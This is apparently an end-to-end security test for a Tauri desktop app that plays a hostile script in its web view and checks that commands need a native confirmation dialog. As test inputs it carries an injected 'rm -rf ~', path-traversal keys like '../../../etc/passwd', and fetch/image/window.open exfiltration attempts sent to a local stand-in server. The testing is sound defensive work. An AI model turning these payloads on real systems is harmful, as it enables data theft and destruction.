// End-to-end: the web view is not trusted (README, "Threat model"). A script in it
// calls the app's commands straight through `window.__TAURI_INTERNALS__.invoke`, the
// way injected code would, and nothing that runs, kills, redirects the record store or
// sends the token anywhere happens without the user's yes in a native dialog; a real
// Return key press in that dialog does it. The page cannot leave the app, open windows
// or reach the network, and the plugins' own commands are not granted.
import { after, before, describe, it } from "node:test";
import { spawn } from "node:child_process";
import http from "node:http";
import assert from "node:assert/strict";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { answerDialog, screenshotScreen, sleep, waitForWindow } from "./lib/desktop.mjs";
import { appBinary, launchApp } from "./lib/app.mjs";

const here = path.dirname(fileURLToPath(import.meta.url));
const artifacts = path.join(here, "artifacts");
const work = fs.mkdtempSync(path.join(os.tmpdir(), "sessionscope-webview-"));
const dataDir = path.join(work, "data");
const storeDir = path.join(work, "records");
const cli = path.join(path.dirname(appBinary()), "sessionscope");
const SECRET = "s3cret-token-of-the-e2e";
const env = {
  CLAUDE_CONFIG_DIR: path.join(work, "claude"),
  SESSIONSCOPE_DATA_DIR: dataDir,
  GPTME_SESSIONS_DIR: storeDir,
  E2E_SERVER_TOKEN: SECRET,
};

let app;
let wd;
let display;
// A loopback server standing in for a gptme-server and for any address a script
// would send data to: it notes every request it gets.
let server;
let serverUrl;
const requests = [];
let cliRun;

/** Call a command the way a script in the page would; returns a handle to poll, since
 * a command that asks the user does not answer until the dialog is closed. Results are
 * kept as { value } or { rejected } (an `error` key would read as a WebDriver error). */
async function invokeFromPage(command, args = {}) {
  const key = `k${Math.random().toString(36).slice(2)}`;
  await wd.execute(
    `window.__e2e = window.__e2e || {};
     window.__TAURI_INTERNALS__.invoke(arguments[0], arguments[1]).then(
       (value) => { window.__e2e[arguments[2]] = { value: value ?? null }; },
       (error) => { window.__e2e[arguments[2]] = { rejected: String(error) }; });`,
    command,
    args,
    key,
  );
  return {
    peek: () => wd.execute(`return window.__e2e[arguments[0]] ?? null`, key),
    result: () =>
      wd.waitFor(`return window.__e2e[${JSON.stringify(key)}] ?? null`, {
        timeout: 15000,
        what: `${command} to answer`,
      }),
  };
}

const shot = (name) => screenshotScreen(display, path.join(artifacts, `${name}.png`));

const pidAlive = (pid) => {
  try {
    process.kill(pid, 0);
  } catch {
    return false;
  }
  const stat = fs.readFileSync(`/proc/${pid}/stat`, "utf8");
  return stat.split(") ")[1]?.[0] !== "Z";
};

const savedSettings = () => {
  try {
    return JSON.parse(fs.readFileSync(path.join(dataDir, "settings.json"), "utf8"));
  } catch {
    return null;
  }
};

before(async () => {
  fs.mkdirSync(artifacts, { recursive: true });
  fs.mkdirSync(storeDir, { recursive: true });
  server = http.createServer((req, res) => {
    requests.push({ method: req.method, url: req.url, auth: req.headers.authorization ?? null });
    res.setHeader("content-type", "application/json");
    if (req.method === "GET" && req.url === "/api/v2/sessions") {
      res.end(JSON.stringify([{ id: "srv-1", conversation_id: "c1", generating: false }]));
    } else if (req.method === "DELETE") {
      res.end(JSON.stringify({ status: "ok" }));
    } else {
      res.end("{}");
    }
  });
  await new Promise((r) => server.listen(0, "127.0.0.1", r));
  serverUrl = `http://127.0.0.1:${server.address().port}`;
  app = await launchApp(env, artifacts);
  wd = app.wd;
  display = app.display;
});

after(async () => {
  if (cliRun?.pid && pidAlive(cliRun.pid)) cliRun.kill("SIGKILL");
  await app?.stop();
  server?.close();
  fs.rmSync(work, { recursive: true, force: true, maxRetries: 3 });
});

describe("a script in the web view", () => {
  it("cannot run a command without a native yes; Return runs it", async () => {
    const marker = path.join(work, "ran-without-asking");
    const request = { name: "injected", command: `touch '${marker}'`, cwd: null, env: [] };
    const first = await invokeFromPage("start_run", { request });
    await waitForWindow(display, "^Run command");
    await sleep(500);
    await shot("20-run-command-dialog");
    assert.equal(await first.peek(), null, "start_run waits for the answer");
    assert.ok(!fs.existsSync(marker), "nothing ran while the dialog was open");
    await answerDialog(display, "^Run command", "Escape");
    assert.deepEqual(await first.result(), { value: null }, "a cancelled start returns null");
    await sleep(1000);
    assert.ok(!fs.existsSync(marker), "nothing ran after Cancel");
    const runs = await invokeFromPage("list_runs");
    assert.deepEqual((await runs.result()).value, [], "no run was recorded");

    const second = await invokeFromPage("start_run", { request });
    await answerDialog(display, "^Run command", "Return");
    const started = await second.result();
    assert.equal(started.value?.command, request.command, JSON.stringify(started));
    const deadline = Date.now() + 10000;
    while (!fs.existsSync(marker) && Date.now() < deadline) await sleep(50);
    assert.ok(fs.existsSync(marker), "the command ran after Return");
  });

  it("cannot type into or kill a run it did not start without a native yes", async () => {
    // A run started by the CLI (another process): the app lists it, detached.
    cliRun = spawn(cli, ["run", "--name", "cli-sleeper", "--", "sleep", "300"], {
      env: { ...process.env, ...env },
      stdio: "ignore",
    });
    let run;
    for (const deadline = Date.now() + 15000; !run && Date.now() < deadline; await sleep(200)) {
      const runs = (await (await invokeFromPage("list_runs")).result()).value ?? [];
      run = runs.find((r) => r.name === "cli-sleeper" && r.status === "running");
    }
    assert.ok(run?.detached, `the app lists the CLI's run as detached: ${JSON.stringify(run)}`);
    assert.ok(run.pid > 0 && pidAlive(run.pid));
    const typed = await (await invokeFromPage("write_run_input", { id: run.id, data: "rm -rf ~\n" })).result();
    assert.match(typed.rejected ?? "", /detached|another/i, JSON.stringify(typed));

    const refused = await invokeFromPage("kill_run", { id: run.id });
    await answerDialog(display, "^Kill run", "Escape");
    assert.deepEqual(await refused.result(), { value: false });
    await sleep(500);
    assert.ok(pidAlive(run.pid), "the run still runs after Cancel");

    const killed = await invokeFromPage("kill_run", { id: run.id });
    await answerDialog(display, "^Kill run", "Return");
    assert.deepEqual(await killed.result(), { value: true });
    const deadline = Date.now() + 10000;
    while (pidAlive(run.pid) && Date.now() < deadline) await sleep(50);
    assert.ok(!pidAlive(run.pid), "the run is gone after Return");
  });

  it("cannot point the token at a server or move the record store without a native yes", async () => {
    const before = savedSettings();
    const current = (await (await invokeFromPage("get_settings")).result()).value.settings;
    const elsewhere = path.join(work, "elsewhere");
    const settings = {
      ...current,
      record_store_dir: elsewhere,
      gptme_server: { base_url: serverUrl, token_env: "E2E_SERVER_TOKEN" },
    };
    const first = await invokeFromPage("save_settings", { settings });
    await waitForWindow(display, "^Apply settings");
    await sleep(500);
    await shot("21-apply-settings-dialog");
    await answerDialog(display, "^Apply settings", "Escape");
    assert.deepEqual(await first.result(), { value: false });
    // Longer than one poll of the server (3 s): nothing was asked of it.
    await sleep(4000);
    assert.deepEqual(requests, [], "no request reached the server");
    assert.deepEqual(savedSettings(), before, "settings.json is unchanged");
    const unchanged = (await (await invokeFromPage("get_settings")).result()).value.settings;
    assert.equal(unchanged.record_store_dir, current.record_store_dir);
    assert.equal(unchanged.gptme_server.base_url, current.gptme_server.base_url);

    const second = await invokeFromPage("save_settings", { settings });
    await answerDialog(display, "^Apply settings", "Return");
    assert.deepEqual(await second.result(), { value: true });
    assert.equal(savedSettings()?.record_store_dir, elsewhere);
    const deadline = Date.now() + 10000;
    while (!requests.some((r) => r.url === "/api/v2/sessions") && Date.now() < deadline) await sleep(100);
    const asked = requests.find((r) => r.url === "/api/v2/sessions");
    assert.equal(asked?.auth, `Bearer ${SECRET}`, "the confirmed server gets the token");

    // Killing the server's session from the page still needs its own yes.
    const kill = await invokeFromPage("kill_server_session", { id: "srv-1" });
    await answerDialog(display, "^Kill server session", "Escape");
    assert.deepEqual(await kill.result(), { value: false });
    assert.ok(!requests.some((r) => r.method === "DELETE"), "no DELETE without a yes");
  });

  it("saves harmless settings without asking", async () => {
    const current = (await (await invokeFromPage("get_settings")).result()).value.settings;
    const saved = await invokeFromPage("save_settings", {
      settings: { ...current, theme: "light", kill_grace_seconds: 4 },
    });
    assert.deepEqual(await saved.result(), { value: true });
    assert.equal(savedSettings()?.kill_grace_seconds, 4);
  });

  it("cannot leave the app, open a window, or reach the network", async () => {
    const seen = requests.length;
    const leak = `${serverUrl}/leak?transcript=secret`;
    await wd.execute(
      `try { fetch(arguments[0] + '&via=fetch').catch(() => {}); } catch {}
       new Image().src = arguments[0] + '&via=img';
       try { window.open(arguments[0] + '&via=open'); } catch {}
       const a = document.createElement('a');
       a.href = arguments[0] + '&via=download'; a.download = 'x.txt'; document.body.append(a); a.click(); a.remove();
       setTimeout(() => { window.location.href = arguments[0] + '&via=location'; }, 50);`,
      leak,
    );
    await sleep(2500);
    const leaked = requests.slice(seen).filter((r) => r.url.startsWith("/leak"));
    assert.deepEqual(leaked, [], "no request left the page");
    assert.equal(
      await wd.execute("return document.querySelector('[data-testid=stats]') !== null"),
      true,
      "the app's page is still shown",
    );
    assert.match(await wd.execute("return location.href"), /^(tauri:\/\/localhost|https?:\/\/tauri\.localhost)/);
  });

  it("cannot call the plugins' commands, emit the app's events, or name files", async () => {
    for (const [command, args] of [
      ["plugin:dialog|open", { options: {} }],
      ["plugin:autostart|enable", {}],
      ["plugin:notification|notify", { options: { title: "x" } }],
      ["plugin:event|emit", { event: "run-changed", payload: {} }],
      ["plugin:window|set_title", { label: "main", value: "x" }],
    ]) {
      const r = await (await invokeFromPage(command, args)).result();
      assert.ok(r.rejected, `${command} is refused: ${JSON.stringify(r)}`);
    }
    for (const [command, args] of [
      ["read_transcript", { key: "../../../etc/passwd", from: null }],
      ["reveal_session_file", { key: "/etc" }],
      ["record_session", { key: "/etc/passwd" }],
    ]) {
      const r = await (await invokeFromPage(command, args)).result();
      assert.match(r.rejected ?? "", /no session/, `${command}: ${JSON.stringify(r)}`);
    }
  });
});
